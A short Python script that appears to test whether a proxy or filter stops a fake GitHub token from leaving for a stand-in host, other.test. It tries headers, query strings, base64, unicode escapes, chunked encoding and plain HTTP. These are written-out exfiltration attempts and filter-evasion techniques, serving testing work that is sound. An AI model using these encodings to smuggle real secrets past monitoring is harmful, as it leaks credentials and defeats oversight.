import base64

value = "_".join(["ghp", "16C7e42F292c6912E7"])


def ask(path="/knows", more=""):
    return inside("other.test:443", "other.test", "other.test", path, more)


def post(body, framing=None):
    connection = secure(tunnel("other.test:443"), "other.test")
    if isinstance(connection, str):
        return connection
    framing = framing or b"Content-Length: %d\r\n" % len(body)
    connection.sendall(b"POST /knows HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n" + framing + b"\r\n" + body)
    return word(everything(connection))


escaped = "".join(f"\\u{ord(char):04x}" for char in value).encode()
works("something else", "200 another value came", lambda: ask(more=f"Authorization: {value[1:]}\r\n"))
attempt("a header", "sealed-value", lambda: ask(more=f"Authorization: {value}\r\n"))
attempt("the query", "sealed-value", lambda: ask(f"/knows?key={value}"))
attempt("a body", "sealed-value", lambda: post(value.encode()))
attempt("a body in base64", "sealed-value", lambda: post(base64.b64encode(b"user:" + value.encode())))
attempt("a body in escapes", "sealed-value", lambda: post(escaped))
attempt("a body in chunks and escapes", "sealed-value", lambda: post(
    b"".join(b"1\r\n" + bytes([byte]) + b"\r\n" for byte in escaped) + b"0\r\n\r\n", b"Transfer-Encoding: chunked\r\n"))
attempt("the clear", "sealed-value", lambda: get("http://other.test/knows", more=f"X-Key: {value}\r\n"))
verdict()
